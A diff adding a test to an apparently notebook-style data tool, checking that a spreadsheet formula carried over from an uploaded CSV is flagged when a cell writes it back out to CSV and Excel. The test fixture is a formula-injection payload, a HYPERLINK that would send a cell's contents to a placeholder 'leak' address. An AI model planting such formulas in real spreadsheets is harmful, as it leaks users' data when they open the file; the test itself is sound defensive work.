@@ -66,6 +66,28 @@ def test_a_file_written_by_a_cell_is_reported_and_readable(reckon: Any) -> None:
     assert "/output/result.csv" in [f["path"] for f in listed]
 
 
+def test_a_written_spreadsheet_that_keeps_an_uploads_formulas_says_so(reckon: Any) -> None:
+    # Issue 32, U1: a formula from an upload stays live in Excel when a cell writes it
+    # out again; the run result names it (files[].formulas and a stderr line), through
+    # window.reckon, and the file is left as the cell wrote it.
+    hostile = '=HYPERLINK("http://127.0.0.1:9/leak?d="&B2,"Open")'
+    upload = "name,change\n" + '"' + hostile.replace('"', '""') + '",-12.5\nBo,+3%\n'
+    assert upload_bytes(reckon, "formulas.csv", upload.encode())["status"] == "ok"
+    code = (
+        "df = read_table('/data/formulas.csv')\n"
+        "df.to_csv('/output/formulas-out.csv', index=False)\n"
+        "df.to_excel('/output/formulas-out.xlsx', index=False)"
+    )
+    result = ok(run(reckon, code))
+    flagged = {f["path"]: f.get("formulas") for f in result["files"]}
+    assert flagged["/output/formulas-out.csv"] == {
+        "count": 1, "first": 'line 2: =HYPERLINK(""http://127.0.0.1:9/leak?d="…', "checked": True
+    }  # fmt: skip
+    assert flagged["/output/formulas-out.xlsx"]["first"] == "sheet 1, A2"
+    assert result["stderr"].count("[reckon] /output/formulas-out.") == 2
+    assert hostile.replace('"', '""') in read_file(reckon, "/output/formulas-out.csv").decode()
+
+
 def test_reading_a_missing_file_is_an_error(reckon: Any) -> None:
     body = """
       try { await window.reckon.readFile("/data/no such file.csv"); return "read"; }
